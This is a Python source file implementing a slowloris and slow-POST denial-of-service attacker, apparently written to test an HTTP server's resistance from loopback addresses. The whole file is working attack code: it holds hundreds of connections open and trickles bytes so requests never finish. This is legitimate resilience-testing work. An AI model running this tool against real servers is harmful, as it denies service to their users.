"""A slowloris attacker for the security tests (and for trying it by hand): many TCP
connections to the HTTP port that send a request line and then trickle one header byte at
a time, never finishing the request, from chosen loopback source addresses.

    python3 slowloris.py --port 8080 --sources 127.0.0.2 --per-source 500 --seconds 60

With --body the headers are complete and the body trickles instead.

Each connection is non-blocking and driven by one poll loop on a thread of its own; the
attacker counts how many connections it got, how many the server closed (and after how
long), and with reconnect=True opens a new one for each that was closed."""

import argparse
import errno
import os
import resource
import select
import socket
import threading
import time

# Slow headers: the request line, then a header that never ends.
HEADERS_START = b"GET /api/v1/health HTTP/1.1\r\nHost: sipbx\r\nX-Slow: "
# Slow body (R-U-Dead-Yet): complete headers announcing a body that then trickles.
BODY_START = (b"POST /api/v1/session HTTP/1.1\r\nHost: sipbx\r\n"
              b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{\"username\":\"")


def raise_fd_limit(want):
    """Raises this process's descriptor limit (soft, up to the hard one) to want; returns
    the limit now in effect."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = want if hard == resource.RLIM_INFINITY else min(want, hard)
    if soft < target:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
        soft = target
    return soft


class Conn:
    def __init__(self, sock, source, now):
        self.sock = sock
        self.source = source
        self.started = now
        self.connected = None  # when the handshake completed
        self.closed = None  # when the server closed it (or refused it)
        self.next_byte = now


class Slowloris:
    def __init__(self, port, sources, per_source, every=1.0, reconnect=False, host="127.0.0.1",
                 reconnect_after=0.5, body=False):
        self.addr = (host, port)
        self.sources = list(sources)
        self.per_source = per_source
        self.every = every  # seconds between two bytes of one connection
        self.start_bytes = BODY_START if body else HEADERS_START
        self.reconnect = reconnect
        # seconds before a closed connection is reopened (a storm of instant refusals
        # would only burn the attacker's CPU, and the machine's)
        self.reconnect_after = reconnect_after
        self.pending = []  # (when, source): connections to reopen
        self.conns = {}  # fd -> Conn, open (or connecting)
        self.done = []  # Conn closed by the server
        self.opened = 0
        self.errors = 0  # connects that failed at once (e.g. out of local ports)
        self.lock = threading.Lock()
        self.stopping = False
        self.thread = None

    def _open(self, source):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\0" * 8)
        s.bind((source, 0))
        s.setblocking(False)
        rc = s.connect_ex(self.addr)
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            self.errors += 1
            return
        self.conns[s.fileno()] = Conn(s, source, time.time())
        self.opened += 1

    def start(self):
        for source in self.sources:
            for _ in range(self.per_source):
                self._open(source)
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _closed(self, c, now):
        c.closed = now
        del self.conns[c.sock.fileno()]
        c.sock.close()
        self.done.append(c)
        if self.reconnect and not self.stopping:
            self.pending.append((now + self.reconnect_after, c.source))

    def _run(self):
        poller = select.poll()
        registered = set()
        while not self.stopping:
            with self.lock:
                now = time.time()
                for fd in list(registered - set(self.conns)):
                    poller.unregister(fd)
                    registered.discard(fd)
                for fd, c in self.conns.items():
                    mask = select.POLLIN | (select.POLLOUT if c.connected is None else 0)
                    if fd in registered:
                        poller.modify(fd, mask)
                    else:
                        poller.register(fd, mask)
                        registered.add(fd)
                events = poller.poll(100)
                now = time.time()
                due = [p for p in self.pending if p[0] <= now]
                self.pending = [p for p in self.pending if p[0] > now]
                for _, source in due:
                    self._open(source)
                for fd, ev in events:
                    c = self.conns.get(fd)
                    if c is None:
                        continue
                    if c.connected is None and ev & select.POLLOUT:
                        if c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                            self._closed(c, now)
                            continue
                        c.connected = now
                        try:
                            c.sock.send(self.start_bytes)
                        except OSError:
                            self._closed(c, now)
                            continue
                    if ev & (select.POLLIN | select.POLLHUP | select.POLLERR):
                        try:
                            data = c.sock.recv(4096)
                        except BlockingIOError:
                            continue
                        except OSError:
                            data = b""
                        if not data:
                            self._closed(c, now)
                        # (an answer would mean the server took a request we never
                        # finished: it does not happen; the data is dropped)
                for c in list(self.conns.values()):
                    if c.connected is not None and now >= c.next_byte:
                        c.next_byte = now + self.every
                        try:
                            c.sock.send(b"a")
                        except BlockingIOError:
                            pass
                        except OSError:
                            self._closed(c, now)

    def stop(self):
        self.stopping = True
        if self.thread:
            self.thread.join(10)
        with self.lock:
            for c in list(self.conns.values()):
                c.sock.close()
            self.conns.clear()

    def stats(self):
        """(connected and still open, closed by the server, opened in all)"""
        with self.lock:
            alive = sum(1 for c in self.conns.values() if c.connected is not None)
            return alive, len(self.done), self.opened

    def closed_after(self):
        """Seconds from connect to close, of every connection the server closed after it
        had been accepted for a while (not refused at once)."""
        with self.lock:
            return [c.closed - c.connected for c in self.done if c.connected is not None]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--sources", default="127.0.0.2", help="comma-separated source addresses")
    ap.add_argument("--per-source", type=int, default=500)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--reconnect", action="store_true")
    ap.add_argument("--body", action="store_true", help="trickle a POST body, not headers")
    args = ap.parse_args()
    sources = args.sources.split(",")
    raise_fd_limit(len(sources) * args.per_source + 256)
    s = Slowloris(args.port, sources, args.per_source, reconnect=args.reconnect, host=args.host,
                  body=args.body)
    s.start()
    end = time.time() + args.seconds
    try:
        while time.time() < end:
            time.sleep(1)
            alive, closed, opened = s.stats()
            print("open %4d  closed by the server %5d  opened %5d" % (alive, closed, opened),
                  flush=True)
    finally:
        s.stop()
    return 0


if __name__ == "__main__":
    os._exit(main())
